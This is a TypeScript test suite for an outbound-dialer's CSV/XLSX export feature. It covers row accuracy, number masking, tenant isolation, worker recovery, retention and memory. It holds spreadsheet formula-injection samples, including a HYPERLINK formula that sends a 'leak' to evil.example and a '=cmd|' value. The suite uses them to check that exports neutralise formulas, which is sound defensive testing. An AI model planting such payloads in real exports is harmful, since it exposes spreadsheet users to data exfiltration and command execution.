import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import v8 from 'node:v8';
import vm from 'node:vm';
import { sql } from 'kysely';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCipher } from '../../src/platform/cipher.ts';
import { ExportWorker } from '../../src/engine/export-worker.ts';
import { maskNumber } from '../../src/domain/contact.ts';
import { RESULT_CODES } from '../../src/domain/result-codes.ts';
import { customers, engineHarness, type EngineHarness } from '../helpers/engine.ts';
import { tenantWithKey } from '../helpers/app.ts';
import { IN_ORDER, WORKDAY, fullTaskConfig } from '../helpers/world.ts';
import { dbKind } from '../helpers/db.ts';

type Row = Record<string, string>;

// A full collection on demand, to measure what stays live rather than garbage not yet collected.
v8.setFlagsFromString('--expose-gc');
const gc = vm.runInNewContext('gc') as () => void;

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")';

/** Five customers on the real engine: c0001 always busy (called 3 times), the rest answered. */
const config = fullTaskConfig({
  name: 'Export check',
  schedule: WORKDAY,
  strategy: { maxRingSec: 20, intervalSec: 3, callsPerInterval: 3 },
  callStrategy: IN_ORDER,
  businessResultPolicy: [],
});

const hasSsconvert = spawnSync('ssconvert', ['--version'], { stdio: 'ignore' }).error === undefined;

describe(`result exports (${dbKind})`, () => {
  let h: EngineHarness;
  let worker: ExportWorker;
  let dir: string;
  let taskId: string;
  let viewerKey: string;
  // The worker's key: encrypted values written with it decrypt; the app's own (random) key does not.
  const cipher = createCipher(randomBytes(32));
  const url = () => `/api/v1/tenants/acme/tasks/${taskId}/exports`;

  /** Queues an export and lets the worker write it (the worker's loop on the virtual clock). */
  async function exportWith(key: string, body: Record<string, unknown>) {
    const r = await h.call(key, { method: 'POST', url: url(), payload: body });
    expect(r.status, JSON.stringify(r.body)).toBe(202);
    expect(r.body.state).toBe('queued');
    worker.wakeAt();
    // A second passes per export, so the list's order by time means something.
    await h.sched.runUntil(h.sched.now().getTime() + 1000);
    const e = await h.call(key, { method: 'GET', url: `${url()}/${r.body.id}` });
    expect(e.body.state, JSON.stringify(e.body)).toBe('done');
    return e.body;
  }

  const download = (key: string, e: { downloadUrl: string }) =>
    h.app.inject({
      method: 'GET',
      url: e.downloadUrl,
      headers: { authorization: `Bearer ${key}` },
    });

  const csvRows = (body: Buffer | string): Row[] =>
    parse(body, { bom: true, columns: true }) as Row[];

  async function xlsxRows(body: Buffer): Promise<Row[]> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(body as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    // What a spreadsheet shows: the text of string cells (inline strings), numbers as written.
    const shown = (row: ExcelJS.Row, i: number) => {
      const c = row.getCell(i + 1);
      return c.value === null || c.value === undefined ? '' : c.text;
    };
    const width = ws.getRow(1).cellCount;
    const header = Array.from({ length: width }, (_, i) => shown(ws.getRow(1), i));
    const rows: Row[] = [];
    ws.eachRow((row, n) => {
      if (n === 1) return;
      rows.push(Object.fromEntries(header.map((k, i) => [k, shown(row, i)])));
    });
    return rows;
  }

  beforeAll(async () => {
    h = await engineHarness({
      start: '2026-11-23T08:00:00+08:00',
      network: {
        rules: [{ match: '^\\+8613800010001$', outcomes: [{ result: 'busy', ringSec: 2 }] }],
      },
    });
    const list = customers(5, (i) => ({
      attributes: { vip: i, city: i === 2 ? HYPERLINK : 'Shenzhen', idcard: `ID-${i}` },
      customField: i === 3 ? '@SUM(1+1)' : i === 4 ? '-2+3' : `cf-${i}`,
      numbers: [
        { number: `+86138${String(10000 + i + 1).padStart(8, '0')}`, type: 'mobile' },
        ...(i === 1 ? [{ number: '+8613900000002', type: 'home' }] : []),
      ],
    }));
    taskId = await h.startTask(config, list);
    await h.runUntil('2026-11-23T12:00:00+08:00');
    // A business result (as the write-back stores it) and an attribute encrypted with the worker's key.
    const db = h.store.db;
    const br = JSON.stringify({ code: 'callback-later', subCode: 'evening', remark: null });
    await sql`update contacts set business_result = ${br}::jsonb where task_id = ${taskId} and session_id = 'c0002'`.execute(
      db,
    );
    await sql`update contacts set attributes = jsonb_set(attributes, '{idcard}', to_jsonb(${cipher.encrypt('ID-1')}::text))
              where task_id = ${taskId} and session_id = 'c0002'`.execute(db);
    viewerKey = await tenantWithKey(h, 'acme', {}, 'viewer');
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'outbound-exports-'));
    const owner = 'test-exporter';
    worker = new ExportWorker({ db, scheduler: h.sched, cipher, dir, owner, idleMs: 3600_000 });
    worker.start();
  });

  afterAll(async () => {
    await worker?.stop();
    await h?.stop();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('exports CSV and XLSX that match the attempts and progress the API shows, row for row', async () => {
    const attempts = (
      await h.call(h.key, {
        method: 'GET',
        url: `/api/v1/tenants/acme/tasks/${taskId}/attempts?limit=1000`,
      })
    ).body.items as any[];
    const progress = (
      await h.call(h.key, { method: 'GET', url: `/api/v1/tenants/acme/tasks/${taskId}/progress` })
    ).body;
    expect(progress.byState.finished).toBe(5);

    for (const format of ['csv', 'xlsx'] as const) {
      const e = await exportWith(h.key, { format });
      expect([e.rows, e.masked, e.format]).toEqual([5, false, format]);
      const res = await download(h.key, e);
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="Export_check-results-\\d{8}T\\d{6}Z\\.${format}"`),
      );
      expect(Number(res.headers['content-length'])).toBe(e.bytes);
      const rows = format === 'csv' ? csvRows(res.rawPayload) : await xlsxRows(res.rawPayload);
      expect(rows.map((r) => r.sessionId)).toEqual(['c0001', 'c0002', 'c0003', 'c0004', 'c0005']);
      expect(Object.keys(rows[0]!).join()).toBe(
        'sessionId,state,finalResult,finalCode,finishReason,attempts,firstAttemptAt,lastAttemptAt,' +
          'numbers,businessResult,businessSubResult,customField,priority,' +
          'ringSec,talkSec,digits,answers,path,transfer,intent,speech,recording,recordingSec,' +
          'timeZones,' +
          'city,idcard,vip',
      );
      const finals: Record<string, number> = {};
      for (const r of rows) {
        const mine = attempts.filter((a) => a.sessionId === r.sessionId);
        const c = await h.contact(taskId, r.sessionId!);
        expect(r.state).toBe('finished');
        expect(r.finalResult).toBe(c.final_result);
        expect(r.finalCode).toBe(RESULT_CODES[c.final_result as keyof typeof RESULT_CODES]);
        expect(r.finishReason).toBe(c.finish_reason);
        expect(Number(r.attempts)).toBe(mine.length);
        // Times carry the task's offset and are the API's instants.
        expect(r.firstAttemptAt).toMatch(/\+08:00$/);
        expect(new Date(r.firstAttemptAt!).toISOString()).toBe(mine[0].startedAt);
        expect(new Date(r.lastAttemptAt!).toISOString()).toBe(mine.at(-1).startedAt);
        expect(r.numbers).toBe((c.numbers as { number: string }[]).map((n) => n.number).join(';'));
        finals[r.finalResult!] = (finals[r.finalResult!] ?? 0) + 1;
      }
      expect(finals).toEqual(progress.finalResults);
      const c1 = rows[0]!;
      expect([c1.finalResult, c1.finalCode, c1.attempts]).toEqual(['busy', '00537', '3']);
      expect(c1.firstAttemptAt).toBe('2026-11-23T09:00:00+08:00');
      // Retries come 300 s after the 2 s busy call ends.
      expect(c1.lastAttemptAt).toBe('2026-11-23T09:10:04+08:00');
      const c2 = rows[1]!;
      expect([c2.businessResult, c2.businessSubResult, c2.numbers]).toEqual([
        'callback-later',
        'evening',
        '+8613800010002;+8613900000002',
      ]);
      // Decrypted with the worker's key; a value under another key stays hidden.
      expect([c2.idcard, rows[0]!.idcard]).toEqual(['ID-1', '***']);
    }
  });

  it('neutralises cells a spreadsheet would run as formulas, and leaves phone numbers readable', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const e = await exportWith(h.key, { format });
      const res = await download(h.key, e);
      const rows = format === 'csv' ? csvRows(res.rawPayload) : await xlsxRows(res.rawPayload);
      expect(rows[2]!.city).toBe(`'${HYPERLINK}`);
      expect(rows[3]!.customField).toBe("'@SUM(1+1)");
      expect(rows[4]!.customField).toBe("'-2+3");
      expect(rows[0]!.customField).toBe('cf-0');
      expect(rows[0]!.numbers).toBe('+8613800010001');
      if (format === 'xlsx') {
        // Text is written as plain inline strings (t="inlineStr", read back as rich text), not as
        // the cached text of a formula (t="str", read back as a string).
        const wb = new ExcelJS.Workbook();
        await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
        const cell = wb.worksheets[0]!.getRow(2).getCell(1);
        expect(cell.type).toBe(ExcelJS.ValueType.RichText);
      }
    }
  });

  it.skipIf(!hasSsconvert)(
    'an XLSX export opened in a spreadsheet program keeps numbers and codes as written (Gnumeric)',
    async () => {
      const e = await exportWith(h.key, { format: 'xlsx' });
      const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'outbound-ss-export-'));
      try {
        fs.writeFileSync(path.join(tmp, 'export.xlsx'), (await download(h.key, e)).rawPayload);
        // The spreadsheet reads the workbook and saves what it shows, as text.
        const conv = spawnSync(
          'ssconvert',
          [path.join(tmp, 'export.xlsx'), path.join(tmp, 'shown.csv')],
          { encoding: 'utf8', timeout: 60_000 },
        );
        expect(conv.status, conv.stderr).toBe(0);
        const rows = csvRows(fs.readFileSync(path.join(tmp, 'shown.csv')));
        expect(rows[0]!.numbers).toBe('+8613800010001');
        const answered = rows.find((r) => r.finalResult === 'success')!;
        expect(answered.finalCode).toBe('00000');
        expect(rows[3]!.customField).toBe("'@SUM(1+1)");
      } finally {
        fs.rmSync(tmp, { recursive: true, force: true });
      }
    },
  );

  it('masks numbers and hides encrypted attributes for a viewer; a viewer cannot download an unmasked export', async () => {
    const masked = await exportWith(viewerKey, { format: 'csv' });
    expect(masked.masked).toBe(true);
    const rows = csvRows((await download(viewerKey, masked)).rawPayload);
    expect(rows[0]!.numbers).toBe('+86138****0001');
    expect(rows[0]!.numbers).toBe(maskNumber('+8613800010001'));
    expect(rows[1]!.numbers).toBe('+86138****0002;+86139****0002');
    expect(rows.map((r) => r.idcard)).toEqual(['***', '***', '***', '***', '***']);
    expect(rows[1]!.city).toBe('Shenzhen');

    const full = await exportWith(h.key, { format: 'csv' });
    expect(full.masked).toBe(false);
    const denied = await download(viewerKey, full);
    expect(denied.statusCode).toBe(403);
    // The admin may download the masked one too.
    expect((await download(h.key, masked)).statusCode).toBe(200);

    const audit = await h.store.db
      .selectFrom('audit_log')
      .selectAll()
      .where('tenant_id', '=', 'acme')
      .where('action', 'like', 'exports.%')
      .orderBy('id')
      .execute();
    const done = audit.find(
      (a) => a.action === 'exports.done' && (a.detail as any).exportId === full.id,
    )!;
    expect(done.actor).toBe(full.requestedBy);
    expect(done.detail).toMatchObject({ rows: 5, masked: false, format: 'csv' });
    const downloads = audit.filter(
      (a) => a.action === 'exports.download' && (a.detail as any).exportId === masked.id,
    );
    expect(downloads.map((a) => a.actor)).toEqual([
      masked.requestedBy,
      expect.stringContaining('key:'),
    ]);
    expect(
      audit.some((a) => a.action === 'exports.download' && (a.detail as any).exportId === full.id),
    ).toBe(false);
  });

  it('exports only the customers the filter selects', async () => {
    const names = async (filter: Record<string, unknown>) => {
      const e = await exportWith(h.key, { format: 'csv', filter });
      return csvRows((await download(h.key, e)).rawPayload).map((r) => r.sessionId);
    };
    expect(await names({ finalResult: ['busy'] })).toEqual(['c0001']);
    expect(await names({ number: '13900000002' })).toEqual(['c0002']);
    expect(await names({ businessResult: 'callback-later', businessSubResult: 'evening' })).toEqual(
      ['c0002'],
    );
    expect(await names({ state: ['ready', 'waiting'] })).toEqual([]);
    const c1 = await h.contact(taskId, 'c0001');
    expect(await names({ finishedFrom: (c1.finished_at as Date).toISOString() })).toContain(
      'c0001',
    );
    expect(await names({ finishedTo: '2026-11-23T09:00:00+08:00' })).toEqual([]);
    const bad = await h.call(h.key, {
      method: 'POST',
      url: url(),
      payload: { format: 'csv', filter: { finishedFrom: 'yesterday' } },
    });
    expect(bad.status).toBe(422);
    expect(bad.body.errors).toEqual([
      { path: '/filter/finishedFrom', message: 'must be an ISO 8601 date-time' },
    ]);
  });

  it('lists the task’s exports newest first, with their download links', async () => {
    const first = await h.call(h.key, { method: 'GET', url: `${url()}?limit=2&state=done` });
    expect(first.status).toBe(200);
    expect(first.body.items).toHaveLength(2);
    expect(first.body.items[0].downloadUrl).toBe(`${url()}/${first.body.items[0].id}/download`);
    const rest = await h.call(h.key, {
      method: 'GET',
      url: `${url()}?limit=100&cursor=${first.body.next}`,
    });
    const all = [...first.body.items, ...rest.body.items];
    expect(new Set(all.map((e: any) => e.id)).size).toBe(all.length);
    const times = all.map((e: any) => e.createdAt);
    expect(new Set(times).size).toBe(times.length);
    expect([...times].sort().reverse()).toEqual(times);
  });

  it('keeps exports inside their tenant', async () => {
    const e = await exportWith(h.key, { format: 'csv' });
    const other = await tenantWithKey(h, 'globex');
    expect((await h.call(other, { method: 'GET', url: url() })).status).toBe(404);
    expect((await h.call(other, { method: 'GET', url: `${url()}/${e.id}` })).status).toBe(404);
    expect((await download(other, e)).statusCode).toBe(404);
    expect(
      (await h.call(other, { method: 'POST', url: url(), payload: { format: 'csv' } })).status,
    ).toBe(404);
    // Its own tenant path with the other tenant's ids finds nothing either.
    const own = `/api/v1/tenants/globex/tasks/${taskId}/exports`;
    expect((await h.call(other, { method: 'GET', url: own })).status).toBe(404);
    expect((await h.call(other, { method: 'GET', url: `${own}/${e.id}/download` })).status).toBe(
      404,
    );
  });

  it('gives an export back to the queue when its worker stops mid-way', async () => {
    for (const format of ['csv', 'xlsx']) {
      const r = await h.call(h.key, { method: 'POST', url: url(), payload: { format } });
      const stopping = new ExportWorker({
        db: h.store.db,
        scheduler: h.sched,
        cipher,
        dir,
        owner: 'stopping',
        batch: 1,
      });
      const tick = stopping.tick();
      await stopping.stop();
      await tick;
      const back = await h.store.db
        .selectFrom('exports')
        .selectAll()
        .where('id', '=', r.body.id)
        .executeTakeFirstOrThrow();
      expect([back.state, back.lease_owner, back.tries]).toEqual(['queued', null, 0]);
      expect(fs.readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
      worker.wakeAt();
      await h.sched.runUntil(h.sched.now());
      expect(
        (await h.call(h.key, { method: 'GET', url: `${url()}/${r.body.id}` })).body.state,
      ).toBe('done');
    }
  });

  it('takes up an export whose worker died once its lease expires, and fails one that keeps crashing', async () => {
    const r = await h.call(h.key, { method: 'POST', url: url(), payload: { format: 'csv' } });
    // A worker that died holding the lease: the export is taken up again once the lease expires.
    await h.store.db
      .updateTable('exports')
      .set({
        state: 'running',
        lease_owner: 'dead-worker',
        lease_expires_at: h.sched.now(),
        tries: 1,
      })
      .where('id', '=', r.body.id)
      .execute();
    worker.wakeAt();
    await h.sched.runUntil(h.sched.now());
    const e = (await h.call(h.key, { method: 'GET', url: `${url()}/${r.body.id}` })).body;
    expect([e.state, e.rows]).toEqual(['done', 5]);

    const crash = await h.call(h.key, { method: 'POST', url: url(), payload: { format: 'csv' } });
    await h.store.db
      .updateTable('exports')
      .set({ tries: 3 })
      .where('id', '=', crash.body.id)
      .execute();
    worker.wakeAt();
    await h.sched.runUntil(h.sched.now());
    const failed = (await h.call(h.key, { method: 'GET', url: `${url()}/${crash.body.id}` })).body;
    expect([failed.state, failed.error, failed.downloadUrl]).toEqual([
      'failed',
      'given up after 3 tries',
      null,
    ]);
    expect(
      (await download(h.key, { downloadUrl: `${url()}/${crash.body.id}/download` })).statusCode,
    ).toBe(409);
  });
  /** The CSV file against a direct read of the table, row for row (its own scope: 200,000 rows are freed after). */
  async function checkRows(taskId: string, file: string) {
    const rows = csvRows(fs.readFileSync(file));
    const want = await sql<{
      session_id: string;
      final_result: string;
      attempts: number;
      first: string;
      num: string;
      custom_field: string;
      city: string;
      priority: number;
    }>`
      select session_id, final_result, attempts, history->0->>'startedAt' as first, numbers->0->>'number' as num,
             custom_field, attributes->>'city' as city, priority
      from contacts where task_id = ${taskId} order by id`.execute(h.store.db);
    expect(rows.length).toBe(want.rows.length);
    want.rows.forEach((w, i) => {
      const g = rows[i]!;
      const cf = w.custom_field.startsWith('=') ? `'${w.custom_field}` : w.custom_field;
      const got = [
        g.sessionId,
        g.finalResult,
        Number(g.attempts),
        Date.parse(g.firstAttemptAt!),
        g.numbers,
        g.customField,
        g.city,
        Number(g.priority),
      ];
      const exp = [
        w.session_id,
        w.final_result,
        w.attempts,
        Date.parse(w.first),
        w.num,
        cf,
        w.city,
        w.priority,
      ];
      // One expect per row would be slow; compare cheaply and report the first difference.
      if (JSON.stringify(got) !== JSON.stringify(exp)) expect(got, `row ${i + 1}`).toEqual(exp);
    });
  }

  // 30–160 s here depending on the machine's load (164 s once at load 9, against 180 then).
  it(
    'exports 100,000 customers row for row, in memory that does not grow with the task',
    { timeout: 360_000 },
    async () => {
      const t0 = Date.now();
      const created = await h.call(h.key, {
        method: 'POST',
        url: '/api/v1/tenants/acme/tasks',
        payload: { ...config, name: 'Big export' },
      });
      expect(created.status).toBe(201);
      const big = created.body.id as string;
      const db = h.store.db;
      const at = new Date('2026-11-23T10:00:00+08:00');
      // Finished customers straight into the table, as the dialer leaves them; one in 1000 with a formula.
      await sql`
      insert into contacts (tenant_id, task_id, session_id, priority, custom_field, attributes, numbers, state,
                            created_at, updated_at, attempts, history, final_result, finish_reason, finished_at)
      select 'acme', ${big}, 's' || lpad(g::text, 6, '0'), 1 + g % 5,
             case when g % 1000 = 0 then '=cmd|' || g else 'cf-' || g end,
             jsonb_build_object('city', 'City ' || (g % 97), 'vip', g % 3),
             jsonb_build_array(jsonb_build_object('number', '+86139' || lpad(g::text, 8, '0'), 'type', 'mobile')),
             'finished', ${at}, ${at}, 1 + g % 3,
             jsonb_build_array(jsonb_build_object('numberIndex', 0, 'result', 'no_answer',
               'startedAt', to_char((${at}::timestamptz - g * interval '1 second') at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"'))),
             (array['success', 'busy', 'no_answer'])[1 + g % 3], 'exhausted', ${at}
      from generate_series(1, 100000) g`.execute(db);
      await sql`analyze contacts`.execute(db);
      const exportsUrl = `/api/v1/tenants/acme/tasks/${big}/exports`;
      const MiB = 2 ** 20;
      /**
       * Writes one export while sampling, every `everyMs`, what stays live after a full
       * collection: the export's status and how far the live heap rose above where it started.
       */
      const livePeak = async (format: 'csv' | 'xlsx', everyMs: number) => {
        gc();
        const start = process.memoryUsage().heapUsed;
        let peak = start;
        const sample = () => (gc(), (peak = Math.max(peak, process.memoryUsage().heapUsed)));
        const r = await h.call(h.key, { method: 'POST', url: exportsUrl, payload: { format } });
        const sampler = setInterval(sample, everyMs);
        worker.wakeAt();
        await h.sched.runUntil(h.sched.now());
        clearInterval(sampler);
        sample();
        const done = (await h.call(h.key, { method: 'GET', url: `${exportsUrl}/${r.body.id}` }))
          .body;
        return { done, rise: peak - start };
      };
      const t1 = Date.now();

      // CSV, then XLSX: what stays live after a full collection, sampled while the file is written:
      // one batch, not the task (100,000 rows of objects would be well over 100 MiB). Resident
      // memory, garbage included, was the CSV's bound before: it varied with what earlier files of
      // the worker left and when the collector ran (+270 MiB once on PostgreSQL against 256).
      const { done: csv, rise: csvRise } = await livePeak('csv', 250);
      const t2 = Date.now();
      expect([csv.state, csv.rows]).toEqual(['done', 100_000]);
      await checkRows(big, path.join(dir, `${csv.id}.csv`));
      const t3 = Date.now();

      // Samples are sparse: a full collection every few milliseconds would slow the export tenfold.
      const { done: xlsx, rise: xlsxRise } = await livePeak('xlsx', 1000);
      expect([xlsx.state, xlsx.rows]).toEqual(['done', 100_000]);
      const t4 = Date.now();
      const report = `insert ${t1 - t0} ms, csv ${t2 - t1} ms (${(csv.bytes / MiB).toFixed(1)} MiB, live heap +${(csvRise / MiB).toFixed(1)} MiB), check ${t3 - t2} ms, xlsx ${t4 - t3} ms (${(xlsx.bytes / MiB).toFixed(1)} MiB, live heap +${(xlsxRise / MiB).toFixed(1)} MiB)`;
      expect(csvRise, report).toBeLessThan(24 * MiB);
      expect(xlsxRise, report).toBeLessThan(24 * MiB);
    },
  );

  it('removes an export’s file when its retention ends; the download then says to export again', async () => {
    const e = await exportWith(h.key, { format: 'csv' });
    expect(Date.parse(e.expiresAt) - Date.parse(e.finishedAt)).toBe(7 * 86_400_000);
    const file = path.join(dir, `${e.id}.csv`);
    expect(fs.existsSync(file)).toBe(true);
    // A week is long to run the engine through: the export is made to expire a minute from now.
    const soon = new Date(h.sched.now().getTime() + 60_000);
    await h.store.db
      .updateTable('exports')
      .set({ expires_at: soon })
      .where('id', '=', e.id)
      .execute();
    worker.wakeAt();
    await h.sched.runUntil(new Date(soon.getTime() - 1000));
    expect((await download(h.key, e)).statusCode).toBe(200);

    await h.sched.runUntil(soon);
    expect(fs.existsSync(file)).toBe(false);
    const after = (await h.call(h.key, { method: 'GET', url: `${url()}/${e.id}` })).body;
    expect([after.state, after.downloadUrl]).toEqual(['expired', null]);
    const res = await download(h.key, e);
    expect(res.statusCode).toBe(409);
    expect(res.json().title).toMatch(/expired on .* request a new export/);
  });
});
